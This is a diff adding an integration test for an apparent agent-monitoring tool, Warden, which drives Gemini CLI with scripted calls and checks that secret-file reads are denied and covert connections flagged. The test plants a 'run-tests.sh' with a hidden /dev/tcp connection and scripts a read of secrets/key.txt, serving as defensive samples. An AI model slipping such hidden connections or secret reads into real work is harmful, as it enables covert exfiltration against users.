@@ -1,0 +1,107 @@
+/**
+ * A third real agent CLI: Gemini CLI (from npm) under `warden run`, driven by
+ * a scripted Gemini API endpoint through Warden's proxy (GOOGLE_GEMINI_BASE_URL).
+ * Its function calls come without ids, as Gemini's usually do: Warden names
+ * them and finds each result again in the next request. Each call is linked
+ * to what the kernel saw; a forbidden read is refused by the kernel inside
+ * its call; a covert connection is flagged; its own start-up raises nothing.
+ */
+import assert from 'node:assert/strict';
+import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { test } from 'node:test';
+import type { Alert, ToolCall } from '../src/applayer/records.js';
+import type { WardenEvent } from '../src/pipeline/events.js';
+import { ScriptedGemini } from './fixtures/scripted-gemini.js';
+import { covertListener, needKernel, ROOT, stateDir, tempDir, warden, wardenAsync } from './helpers.js';
+
+type Timeline = {
+  turns: Array<{ toolCalls: Array<ToolCall & { events: WardenEvent[] }> }>;
+  unattributed?: WardenEvent[];
+  alerts: Alert[];
+};
+const GEMINI = join(ROOT, 'node_modules', '.bin', 'gemini');
+
+test('Gemini CLI under warden run: function calls named, linked, refused and flagged', async (t) => {
+  if (!needKernel(t)) return;
+  const state = stateDir('gemini');
+  const ws = tempDir('gemini-ws');
+  const home = tempDir('gemini-home');
+  const pdir = tempDir('gemini-policy');
+  const covertPort = await covertListener(t);
+  t.after(() => [state, ws, home, pdir].forEach((d) => d.cleanup()));
+  mkdirSync(join(ws.path, 'secrets'));
+  writeFileSync(join(ws.path, 'secrets', 'key.txt'), 'TOP-SECRET\n');
+  writeFileSync(
+    join(ws.path, 'run-tests.sh'),
+    `#!/bin/bash\necho ok\n(exec 3<>/dev/tcp/127.0.0.3/${covertPort}; echo x >&3) 2>/dev/null\n`,
+  );
+  chmodSync(join(ws.path, 'run-tests.sh'), 0o755);
+  mkdirSync(join(home.path, '.gemini'));
+  writeFileSync(
+    join(home.path, '.gemini', 'settings.json'),
+    JSON.stringify({
+      security: { auth: { selectedType: 'gemini-api-key' }, folderTrust: { enabled: false } },
+      general: { disableAutoUpdate: true, disableUpdateNag: true },
+      privacy: { usageStatisticsEnabled: false },
+      telemetry: { enabled: false },
+    }),
+  );
+  const policy = join(pdir.path, 'p.yaml');
+  writeFileSync(
+    policy,
+    'apiVersion: warden.dev/v1\nkind: Policy\nmetadata: { name: gemini-test }\nfiles:\n  denyRead: ["${workspace}/secrets"]\n',
+  );
+  const notes = join(ws.path, 'notes.txt');
+  const model = new ScriptedGemini([
+    { calls: [{ name: 'run_shell_command', args: { command: 'echo hello > notes.txt && cat notes.txt' } }] },
+    { calls: [{ name: 'run_shell_command', args: { command: 'cat secrets/key.txt' } }] },
+    { calls: [{ name: 'run_shell_command', args: { command: './run-tests.sh' } }] },
+    { text: 'Reading the notes back.', calls: [{ name: 'read_file', args: { file_path: notes } }] },
+  ]);
+  const upstream = await model.listen();
+  t.after(() => model.close());
+  const run = await wardenAsync(
+    state.path,
+    ['run', '--policy', policy, '-w', ws.path, '--', GEMINI, '-p', 'run the tests', '--yolo', '-m', 'gemini-2.5-flash'],
+    {
+      cwd: ws.path,
+      env: { GEMINI_API_KEY: 'test-key-not-real', HOME: home.path, WARDEN_GEMINI_UPSTREAM: upstream },
+      timeoutMs: 120000,
+    },
+  );
+  assert.equal(run.status, 0, run.stderr);
+  assert.equal(model.seen.length, 5, 'every turn reached the model through the proxy');
+
+  const tl = JSON.parse(warden(state.path, ['timeline', '--last', '--json']).stdout) as Timeline;
+  const calls = tl.turns.flatMap((x) => x.toolCalls);
+  assert.deepEqual(
+    calls.map((c) => c.name),
+    ['run_shell_command', 'run_shell_command', 'run_shell_command', 'read_file'],
+    `the four calls, each once: ${JSON.stringify(calls.map((c) => [c.id, c.name]))}`,
+  );
+  const [write, secret, covert, read] = calls;
+  for (const c of calls) {
+    assert.match(c.id, /^gemini-\d+-0-[0-9a-f]{12}$/);
+    assert.ok(c.result, `the result of ${c.id} was found in the next request`);
+  }
+  assert.match(write?.result?.text ?? '', /hello/);
+  assert.ok(
+    write?.events.some((e) => e.type === 'open' && e.path === notes && e.flagNames.includes('O_WRONLY')),
+    'the write of notes.txt is under its call',
+  );
+  assert.equal(
+    secret?.events.find((e) => e.type === 'open' && e.path.endsWith('secrets/key.txt'))?.decision?.verdict,
+    'denied',
+  );
+  assert.ok(covert?.events.some((e) => e.type === 'connect' && e.daddr === '127.0.0.3'));
+  assert.ok(tl.alerts.some((a) => a.detector === 'intent-mismatch' && a.toolCallId === covert?.id));
+  assert.ok(
+    read?.events.some((e) => e.type === 'open' && e.path === notes),
+    "Gemini CLI's own read of notes.txt is under the read_file call",
+  );
+  assert.deepEqual(
+    tl.alerts.filter((a) => a.detector === 'undeclared-action').map((a) => a.message),
+    [],
+  );
+});
